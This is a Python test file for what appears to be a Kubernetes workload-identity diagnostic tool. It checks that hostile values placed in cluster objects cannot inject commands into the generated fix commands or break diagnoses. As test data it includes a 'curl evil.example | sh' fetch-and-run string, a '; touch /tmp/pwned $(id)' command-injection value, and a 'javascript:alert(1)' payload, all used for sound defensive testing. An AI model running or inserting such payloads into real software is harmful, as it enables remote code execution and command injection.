"""Whatever a tenant's API server writes into its objects: bounded facts, printable words, commands that stay whole."""

from __future__ import annotations

import copy
import shlex
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support.identity import AZURE_ISSUER, CLIENT, account, azure_pod, case, node, webhook
from validator.doctor import parse
from validator.doctor.cluster import diagnose
from validator.doctor.fact import fact_of
from validator.doctor.facts import Cloud
from validator.doctor.parse import MAX_CONTAINERS, MAX_LABELS, MAX_TEXT_CHARS
from validator.doctor.selector import Expression, Selector
from validator.reasons import Reason

EVIL = "x'; curl evil.example | sh #\x1b[31m\u202e\n"

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=10,
)


def places(body: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a document."""
    inner = body.items() if isinstance(body, dict) else enumerate(body) if isinstance(body, list) else ()
    return [at, *(place for key, value in inner for place in places(value, (*at, key)))]


def changed(body: Any, place: tuple[Any, ...], value: Any) -> Any:
    if not place:
        return value
    body = copy.deepcopy(body)
    target = body
    for key in place[:-1]:
        target = target[key]
    target[place[-1]] = value
    return body


GOOD = {
    "account": account({"azure.workload.identity/client-id": CLIENT}),
    "pod": azure_pod(),
    "webhook": webhook(namespaceSelector={"matchExpressions": [{"key": "a", "operator": "In", "values": ["b"]}]}),
    "node": node({"kubernetes.azure.com/cluster": "MC_a_b_c"}, "azure:///x"),
}
PLACES = [(name, place) for name, body in GOOD.items() for place in places(body) if place]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(PLACES),
    json_values | st.sampled_from([EVIL, "y" * 5000, "https://[x", "9" * 400]),
    st.sampled_from([None, *Cloud]),
)
def test_no_field_of_any_type_breaks_a_diagnosis_or_a_command(
    place: tuple[str, tuple[Any, ...]], value: Any, cloud: Cloud | None
) -> None:
    name, where = place
    objects = {**GOOD, name: changed(GOOD[name], where, value)}
    of = case(objects["account"], [objects["pod"]], webhooks=[objects["webhook"]], nodes=[objects["node"]])
    diagnosis = diagnose(of, cloud)
    fact_of(diagnosis, of)
    for step in diagnosis.steps:
        assert step.seen.isprintable()
        assert len(step.seen) < 2500
        for line in step.fix:
            assert line.isprintable()
            if not line.startswith(("#", "read ")):
                assert shlex.split(line)[0] in {"kubectl", "helm", "az", "aws", "gcloud", "git", "make"}


@pytest.mark.parametrize("cloud", list(Cloud))
def test_an_evil_annotation_is_one_word_of_a_command(cloud: Cloud) -> None:
    evil = "x; touch /tmp/pwned $(id) `id` 'q' \"q\""
    keys = ("azure.workload.identity/client-id", "azure.workload.identity/tenant-id", "eks.amazonaws.com/role-arn")
    diagnosis = diagnose(
        case(account(dict.fromkeys((*keys, "eks.typo/audience", "x.io/gcp-service-account"), evil))), cloud
    )
    for line in (line for step in diagnosis.steps for line in step.fix):
        if "touch" in line and not line.startswith("#"):
            assert any(evil in word for word in shlex.split(line)), line


def test_names_that_are_none_are_dropped() -> None:
    bad = azure_pod(name=EVIL)
    assert parse.pod_of(bad, "velero") is None
    owned = azure_pod(owner=("Deployment", EVIL))
    found = parse.pod_of(owned, "velero")
    assert found is not None
    assert found.owner is None
    assert list(parse.webhooks_of({"metadata": {"name": EVIL}, "webhooks": webhook()["webhooks"]})) == []


@pytest.mark.parametrize("issuer", [EVIL, "", None, 3, "javascript:alert(1)", f"https://x/{'y' * 600}", "https://a b"])
def test_an_issuer_that_is_no_url_is_none(issuer: object) -> None:
    assert parse.issuer_of({"issuer": issuer}) is None


def test_an_issuer_that_only_looks_like_a_url_is_found_unreachable() -> None:
    of = case(GOOD["account"], [GOOD["pod"]], webhooks=[GOOD["webhook"]], issuer="https://[x")
    assert [found.reason for found in diagnose(of).findings if found.name == "issuer"] == [Reason.ISSUER_UNREACHABLE]


def test_the_slash_at_the_end_of_an_issuer_is_kept() -> None:
    assert parse.issuer_of({"issuer": AZURE_ISSUER}) == AZURE_ISSUER


def test_everything_that_can_be_long_is_cut() -> None:
    huge = azure_pod(labels={f"l{number}": "x" * 5000 for number in range(5000)})
    huge["spec"]["containers"] *= 1000
    huge["spec"]["containers"][0]["env"] *= 1000
    found = parse.pod_of(huge, "velero")
    assert found is not None
    assert len(found.labels) <= MAX_LABELS
    assert max(map(len, found.labels.values())) <= MAX_TEXT_CHARS
    assert len(found.containers) <= MAX_CONTAINERS


@pytest.mark.parametrize(
    ("expression", "matches"),
    [
        (Expression("a", "In", ("b", "c")), True),
        (Expression("a", "In", ("c",)), False),
        (Expression("a", "NotIn", ("b",)), False),
        (Expression("z", "NotIn", ("b",)), True),
        (Expression("a", "Exists"), True),
        (Expression("z", "Exists"), False),
        (Expression("z", "DoesNotExist"), True),
        (Expression("a", "DoesNotExist"), False),
    ],
)
def test_selectors_decide_as_the_api_server_does(expression: Expression, *, matches: bool) -> None:
    assert Selector(expressions=(expression,)).matches({"a": "b"}) is matches
    assert Selector().matches({})
    assert not Selector({"a": "c"}).matches({"a": "b"})


def test_a_selector_of_a_new_kind_makes_no_finding() -> None:
    new = {"matchExpressions": [{"key": "a", "operator": "Gt", "values": ["1"]}]}
    of = case(account({"azure.workload.identity/client-id": CLIENT}), [], webhooks=[webhook(namespaceSelector=new)])
    assert diagnose(of).findings == ()
